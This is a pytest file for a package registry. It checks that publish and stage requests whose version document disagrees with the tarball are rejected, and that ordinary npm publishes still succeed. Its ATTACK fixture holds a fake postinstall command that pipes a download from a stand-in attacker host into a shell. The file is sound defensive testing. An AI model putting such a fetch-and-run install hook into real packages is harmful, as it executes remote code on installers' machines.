"""What is served is what was reviewed: a version document that disagrees with its tarball is refused."""

from __future__ import annotations

import json
import re

import httpx

from tests.support.packages import make_package, publish_document, set_version, tarball, unique_name

ATTACK = {"dependencies": {"evil": "*"}, "scripts": {"postinstall": "curl https://evil.test/x | sh"}}
UUID = r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"


def confused_document(name: str, version: str) -> dict:
    """The tarball's package.json has no dependencies and no scripts; the document says otherwise."""
    packed = tarball({"name": name, "version": version, "description": "harmless"})
    return publish_document(name, version, data=packed, manifest_extra=ATTACK)


def assert_mismatch(response: httpx.Response) -> None:
    assert response.status_code == 400, response.text
    body = response.json()
    assert body["code"] == "manifest.mismatch", body
    assert "dependencies" in body["error"] and "evil" in body["error"], body


def served(account, name: str) -> str:
    return httpx.get(account.registry + name, headers={"accept": "application/json"}).text


def test_publish_whose_document_adds_dependencies_and_scripts_is_refused(accounts):
    account = accounts.create()
    name = unique_name()
    assert_mismatch(account.http("PUT", name, json=confused_document(name, "1.0.0")))
    assert httpx.get(account.registry + name).status_code == 404


def test_publish_of_a_later_confused_version_serves_nothing_of_it(accounts):
    account = accounts.create()
    name = unique_name()
    assert account.http("PUT", name, json=publish_document(name, "1.0.0")).status_code == 200
    assert_mismatch(account.http("PUT", name, json=confused_document(name, "1.1.0")))
    packument = served(account, name)
    assert "evil" not in packument and "postinstall" not in packument
    assert list(json.loads(packument)["versions"]) == ["1.0.0"]


def test_stage_whose_document_adds_dependencies_and_scripts_is_refused(accounts):
    account = accounts.create()
    name = unique_name()
    assert account.http("PUT", name, json=publish_document(name, "1.0.0")).status_code == 200
    assert_mismatch(account.http("POST", f"-/stage/package/{name}", json=confused_document(name, "1.1.0")))
    assert account.http("GET", "-/stage").json()["total"] == 0
    packument = served(account, name)
    assert "evil" not in packument and "postinstall" not in packument


def test_stock_npm_publish_with_gyp_and_bins_still_works(accounts, tmp_path):
    """npm adds an install script for binding.gyp and rewrites `./cli.js`; both agree with the tarball."""
    account = accounts.create()
    name = unique_name()
    directory = make_package(tmp_path, name, bin="./cli.js", directories={"bin": "./bin"},
                             scripts={"test": "node_modules/.bin/tap"})
    for path in ("cli.js", "bin/tool", "binding.gyp"):
        (directory / path).parent.mkdir(parents=True, exist_ok=True)
        (directory / path).write_text("{}\n")
    result = account.npm("publish", cwd=directory)
    assert result.returncode == 0, result
    version = json.loads(served(account, name))["versions"]["1.0.0"]
    assert version["bin"] == {name: "cli.js"}
    assert version["scripts"] == {"test": "tap", "install": "node-gyp rebuild"}
    assert version["gypfile"] is True and version["hasInstallScript"] is True


def test_stock_npm_stage_publish_with_derived_bins_and_bundles_still_works(accounts, tmp_path):
    account = accounts.create()
    name = unique_name()
    directory = make_package(tmp_path, name, directories={"bin": "bin"}, bundleDependencies=True,
                             dependencies={"dep": "user/repo"})
    (directory / "bin").mkdir()
    (directory / "bin" / "tool").write_text("#!/usr/bin/env node\n")
    assert account.npm("publish", cwd=directory).returncode == 0
    account.enable_2fa()
    set_version(directory, "1.1.0")
    result = account.npm("stage", "publish", cwd=directory)
    assert result.returncode == 0, result
    stage_id = re.search(rf"\(staged with id ({UUID})\)", result.stdout).group(1)
    approved = account.npm("stage", "approve", stage_id, f"--otp={account.otp()}")
    assert approved.returncode == 0, approved
    version = json.loads(served(account, name))["versions"]["1.1.0"]
    assert version["bin"] == {"tool": "bin/tool"}
    assert version["bundleDependencies"] == ["dep"] and version["dependencies"] == {"dep": "github:user/repo"}
